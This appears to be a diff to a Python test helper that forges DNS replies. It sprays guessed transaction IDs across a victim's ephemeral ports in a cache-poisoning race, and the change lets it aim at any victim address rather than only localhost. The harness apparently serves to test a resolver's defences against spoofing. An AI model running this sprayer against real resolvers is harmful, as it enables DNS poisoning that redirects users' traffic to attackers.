@@ -67,22 +67,33 @@ def read_framed(stream):
 
 
 class Forger:
-    """On `port` of 127.0.0.1, in front of the upstream on `upstream_port`. `names`: what it forges for,
-    with the final dot. `guesses`: its first reply is wrong in nothing. `delay`: seconds before each reply."""
+    """On `port` of `address`, in front of the upstream on `upstream_port`. `names`: what it forges for, with the
+    final dot, and sends to any port of `victim`, too. `guesses`: its first reply is wrong in nothing. `delay`: seconds
+    before each reply. `machine`: where it is, if not here."""
 
-    def __init__(self, port, upstream_port, names=(), guesses=False, delay=0.0):
+    def __init__(self, port, upstream_port, names=(), guesses=False, delay=0.0, address="127.0.0.1",
+                 upstream="127.0.0.1", victim="127.0.0.1", machine=None):
         self.port, self.queries, self.over_tcp, self.told = port, 0, 0, 0
-        self._upstream, self._guesses, self._delay = ("127.0.0.1", upstream_port), guesses, delay
-        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        self._udp.bind(("127.0.0.1", port))
-        self._tcp = socket.create_server(("127.0.0.1", port))
+        self._upstream, self._guesses, self._delay = (upstream, upstream_port), guesses, delay
+        self._machine = machine
+        self._udp = self._socket(socket.SOCK_DGRAM)
+        self._udp.bind((address, port))
+        self._tcp = self._socket(socket.SOCK_STREAM)
+        self._tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self._tcp.bind((address, port))
+        self._tcp.listen()
         self._wake, self._end = os.pipe()
         self._is_stopped = False
         self._sprayer = names and subprocess.Popen(
-            [sys.executable, "-B", __file__, str(self._udp.fileno()), *names], bufsize=0,
+            [sys.executable, "-B", __file__, str(self._udp.fileno()), victim, *names], bufsize=0,
             stdin=subprocess.PIPE, stdout=subprocess.PIPE, pass_fds=[self._udp.fileno()])
         self._thread = threading.Thread(target=self._relay)
         self._thread.start()
+
+    def _socket(self, kind):
+        made = self._machine.socket(kind) if self._machine else socket.socket(socket.AF_INET, kind)
+        made.settimeout(None)
+        return made
 
     def _relay(self):
         while True:
@@ -105,7 +116,7 @@ class Forger:
             for reply in wrong_replies(query, BURSTS[self.queries % len(BURSTS)]):
                 self._udp.sendto(reply, client)
                 self.told += 1
-        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
+        with self._socket(socket.SOCK_DGRAM) as asked:
             asked.settimeout(PATIENCE)
             asked.connect(self._upstream)
             asked.send(query)
@@ -115,8 +126,10 @@ class Forger:
 
     def _relay_stream(self, client):
         self.over_tcp += 1
-        with client, socket.create_connection(self._upstream, PATIENCE) as asked:
-            client.settimeout(PATIENCE)
+        with client, self._socket(socket.SOCK_STREAM) as asked:
+            for stream in (client, asked):
+                stream.settimeout(PATIENCE)
+            asked.connect(self._upstream)
             asked.sendall(read_framed(client))
             client.sendall(read_framed(asked))
 
@@ -138,8 +151,8 @@ class Forger:
         return rate
 
 
-def spray(udp, names):
-    """Sends wrong replies until standard input ends, which says the ports of queries."""
+def spray(udp, victim, names):
+    """Sends wrong replies there until standard input ends, which says the ports of queries."""
     os.set_blocking(0, False)
     with open("/proc/sys/net/ipv4/ip_local_port_range") as file:
         first, last = map(int, file.read().split())
@@ -159,10 +172,10 @@ def spray(udp, names):
         drawn = os.urandom(4 * BATCH)
         for at in range(0, len(drawn), 4):
             anywhere = first + int.from_bytes(drawn[at + 2:at + 4], "big") % (last - first + 1)
-            udp.sendto(drawn[at:at + 2] + tail, ("127.0.0.1", anywhere if at % 8 else latest))
+            udp.sendto(drawn[at:at + 2] + tail, (victim, anywhere if at % 8 else latest))
         sent += BATCH
     print(sent, time.monotonic() - begun)
 
 
 if __name__ == "__main__":
-    spray(socket.socket(fileno=int(sys.argv[1])), sys.argv[2:])
+    spray(socket.socket(fileno=int(sys.argv[1])), sys.argv[2], sys.argv[3:])
